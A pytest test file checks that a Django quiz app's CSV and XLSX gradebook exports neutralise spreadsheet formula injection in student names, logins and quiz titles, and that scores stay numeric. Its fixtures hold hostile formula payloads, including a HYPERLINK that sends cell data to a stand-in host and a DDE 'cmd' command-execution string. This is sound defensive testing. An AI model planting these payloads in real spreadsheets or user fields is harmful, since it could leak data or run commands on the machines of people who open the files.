"""Formula injection: every gradebook export, CSV and XLSX, keeps people's text inert.

Students get hostile names the way an LMS gives them (API enrolment by external id, LTI sets the
same fields), one also a hostile login; the quiz gets a hostile title (the column header). Each
export endpoint is then opened as a spreadsheet would: the CSV's dangerous fields start with an
apostrophe and the XLSX's are string cells holding the literal text, while the scores — one of
them negative — stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from quizapp.api.services import enrollment_upsert_external
from quizapp.attempts import services
from quizapp.core.exports import csv_row, is_formula_like, neutralise
from quizapp.models import Attempt, Course, CourseQuiz, Enrollment

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# (external id, last name, first name): each a way a spreadsheet starts a formula.
HOSTILE = [
    ("lms-1", HYPERLINK, "Мария"),
    ("lms-2", "+7(999)1234567", "=1+1"),
    ("lms-3", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("lms-4", "\t=1+1", "\r=2+2"),
    ("lms-5", "  =3+3", "＝4+4"),  # after leading spaces; the full-width equals sign
    ("lms-6", "#N/A", "＋5"),  # an error code, which openpyxl would store as one
]
HOSTILE_LOGIN = "@evil"
HOSTILE_TITLE = "=2*3"


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def setup(demo_quiz, owner, django_user_model):
    """A course with the hostile students, each with a finished attempt; one score is -0.5."""
    quiz = demo_quiz
    quiz.owner = owner
    quiz.title = HOSTILE_TITLE
    quiz.save(update_fields=["owner", "title"])
    course = Course.objects.create(owner=owner, title="Курс", code="c-2026")
    CourseQuiz.objects.create(course=course, quiz=quiz, added_by=owner)
    students = []
    for external_id, last, first in HOSTILE:
        enrollment, _ = enrollment_upsert_external(
            course=course, external_id=external_id, first_name=first, last_name=last
        )
        students.append(enrollment.user)
    login = django_user_model.objects.create_user(HOSTILE_LOGIN, first_name="-", last_name="Ок")
    Enrollment.objects.create(course=course, user=login)
    students.append(login)
    for user in students:
        attempt = services.attempt_start(user=user, quiz=quiz)
        services.attempt_finish(attempt=attempt)
    negative = Attempt.objects.get(user=students[0], quiz=quiz)
    Attempt.objects.filter(pk=negative.pk).update(score=Decimal("-0.50"))
    return course, quiz, students


SCOPES = ["course", "quiz"]


def _url(scope: str, course, quiz, fmt: str) -> str:
    """Every export endpoint: a course's gradebook and a quiz's, as CSV or XLSX."""
    if scope == "course":
        return reverse("gradebook-course-export", args=[course.pk, fmt])
    return reverse("gradebook-quiz-export", args=[quiz.pk, fmt])


def _expected_rows(students):
    """Login, last name, first name as stored: the text each row must carry."""
    return {s.username: (s.username, s.last_name, s.first_name) for s in students}


@pytest.mark.parametrize("scope", SCOPES)
@pytest.mark.parametrize(
    ("sep", "query", "negative"), [(";", "", "-0,50"), (",", "?sep=comma", "-0.50")]
)
def test_csv_export_neutralises_text_and_keeps_scores(
    client, owner, setup, scope, sep, query, negative
):
    course, quiz, students = setup
    client.force_login(owner)
    response = client.get(_url(scope, course, quiz, "csv") + query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=sep))
    header, body = rows[0], rows[1:]
    assert header[3].startswith("'" + HOSTILE_TITLE), header

    expected = _expected_rows(students)
    seen = set()
    for row in body:
        login = row[0].removeprefix("'")
        text = expected[login]
        seen.add(login)
        for cell, original in zip(row[:3], text, strict=True):
            if is_formula_like(original):
                assert cell == "'" + original, (cell, original)
            else:
                assert cell == original
            # What a spreadsheet sees first is never a formula sign.
            assert cell[:1] not in "=+-@\t\r＝＋－＠" or cell == ""
        score, total = row[3], row[4]
        if login == students[0].username:
            assert (score, total) == (negative, negative)  # a number, not "'-0,50"
        else:
            assert not score.startswith("'") and float(score.replace(",", ".")) >= 0
    assert seen == set(expected)


@pytest.mark.parametrize("scope", SCOPES)
def test_xlsx_export_writes_text_cells_and_numeric_scores(client, owner, setup, scope):
    from openpyxl import load_workbook

    course, quiz, students = setup
    client.force_login(owner)
    response = client.get(_url(scope, course, quiz, "xlsx"))
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    header = ws[1]
    assert header[3].data_type == "s"
    assert header[3].value.startswith(HOSTILE_TITLE)

    expected = _expected_rows(students)
    seen = set()
    for row in ws.iter_rows(min_row=2):
        login = row[0].value
        seen.add(login)
        for cell, original in zip(row[:3], expected[login], strict=True):
            if original == "":
                continue
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            # The literal text, no apostrophe added and no formula; XML turns a lone CR into LF.
            assert cell.value == original.replace("\r", "\n") or cell.value == original
            assert cell.quotePrefix == is_formula_like(original)
        score, total = row[3], row[4]
        assert score.data_type == total.data_type == "n"
        if login == students[0].username:
            assert score.value == total.value == pytest.approx(-0.5)
        else:
            assert isinstance(score.value, int | float) and score.value >= 0
    assert seen == set(expected)


def test_no_cell_is_stored_as_formula_anywhere(client, owner, setup):
    """The raw XLSX has no <f> element at all: nothing in it is a formula."""
    import zipfile

    course, quiz, _ = setup
    client.force_login(owner)
    for scope in SCOPES:
        data = client.get(_url(scope, course, quiz, "xlsx")).content
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and 't="e"' not in sheet


@pytest.mark.parametrize(
    ("text", "dangerous"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@A1", True),
        ("\t1", True),
        ("\r1", True),
        ("\n1", True),
        ("   =1", True),
        ("\u3000=1", True),  # ideographic space, then a formula
        ("＝1", True),
        ("＋1", True),
        ("－1", True),
        ("＠A1", True),
        ("Иванова", False),
        ("Анна-Мария", False),
        ("a=b", False),
        ("", False),
        ("   ", False),
    ],
)
def test_formula_rule(text, dangerous):
    assert is_formula_like(text) is dangerous
    assert neutralise(text) == ("'" + text if dangerous else text)


def test_numbers_are_never_neutralised():
    row = csv_row([Decimal("-0.50"), -1, -2.5, 0, "-1", None], decimal_comma=True)
    assert row == ["-0,50", "-1", "-2,5", "0", "'-1", ""]
    assert csv_row([Decimal("-0.50")], decimal_comma=False) == ["-0.50"]
